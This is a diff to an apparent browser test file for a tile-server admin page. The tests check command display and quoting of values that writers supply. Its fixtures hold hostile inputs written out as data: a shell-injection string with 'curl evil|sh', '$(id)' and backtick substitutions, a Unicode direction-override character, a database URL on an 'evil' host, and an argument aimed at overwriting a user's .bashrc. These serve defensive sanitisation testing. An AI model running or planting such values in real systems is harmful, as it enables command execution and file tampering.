@@ -44,7 +44,7 @@ onAdmin('work', stage => {
     const page = await stage.enter('work')
     await part(page, 'Running now').getByText('No command runs at the moment.').waitFor()
     const source = `${upstream.url}/xyz/{z}/{x}/{y}.png`
-    const { child } = startCommand(['load', source, '--layer', 'town', '--bbox', '-180,-85,180,85', '--zoom', '0-6', '--rate', '2/s', '--time', '2024', '--upstream-networks', '127.0.0.1', '--db', stage.backend.database])
+    const { child } = startCommand(['load', source, '--layer', 'town', '--bbox', '-180,-85,180,85', '--zoom', '0-6', '--rate', '2/s', '--time', '2024', '--db', stage.backend.database], { TILECOUCH_UPSTREAM_NETWORKS: '127.0.0.1' })
     try {
       const running = part(page, 'Running now').locator('.run')
       await running.getByText('load town').waitFor()
@@ -71,7 +71,7 @@ onAdmin('work', stage => {
     await write({ command: 'seed', layer: 'osm', args: ['seed', 'osm'], started: timeOf(Date.now() - 60_000), seen: timeOf(Date.now() - 15_000) })
     await part(page, 'Running now').getByText('seed osm').waitFor({ timeout: LIVE })
     await part(page, 'Interrupted').getByText('seed osm', { exact: true }).waitFor({ timeout: 15000 })
-    assert.match(await part(page, 'Interrupted').locator('code').innerText(), /^tilecouch seed osm( --db http:\S+)?$/)
+    assert.match(await part(page, 'Interrupted').locator('code').innerText(), /^tilecouch seed( --db http:\S+)? osm$/)
   })
 
   it('offers only a command that it has built itself: what a writer has put there runs nothing', async () => {
@@ -81,11 +81,13 @@ onAdmin('work', stage => {
     const ended = { command: 'load', state: 'failed', finished: timeOf(Date.now()) }
     await write({ ...ended, layer: 'free', line: evil, args: ['load', 'tiles', '--db', 'http://evil/tiles'] })
     await write({ ...ended, layer: 'turned', line: evil, args: ['load', '\u202etiles'], error: { message: 'a\u202eb' } })
+    await write({ ...ended, command: 'doctor', layer: 'repaired', args: ['doctor', '--fix', '--cors', '*'] })
+    await write({ ...ended, command: 'seed', layer: 'overwritten', args: ['seed', 'osm', '--failed', '/home/admin/.bashrc'] })
     await write({ ...ended, layer: 'quoted', args: ['load', "it's ; curl evil|sh", '$(id)', '`id`'] })
     const row = name => part(page, 'Ended').locator('tbody tr').filter({ hasText: name })
     await row('turned').waitFor()
     const line = await row('quoted').locator('code').textContent()
-    assert.match(line ?? '', /^tilecouch load 'it'\\''s ; curl evil\|sh' '\$\(id\)' '`id`'( --db http:\S+)?$/)
+    assert.match(line ?? '', /^tilecouch load( --db http:\S+)? 'it'\\''s ; curl evil\|sh' '\$\(id\)' '`id`'$/)
     assert.equal(await part(page, 'Ended').locator('code').count(), 1)
     assert.match(await row('turned').locator('.why').innerText(), /^a\ufffdb/)
   })
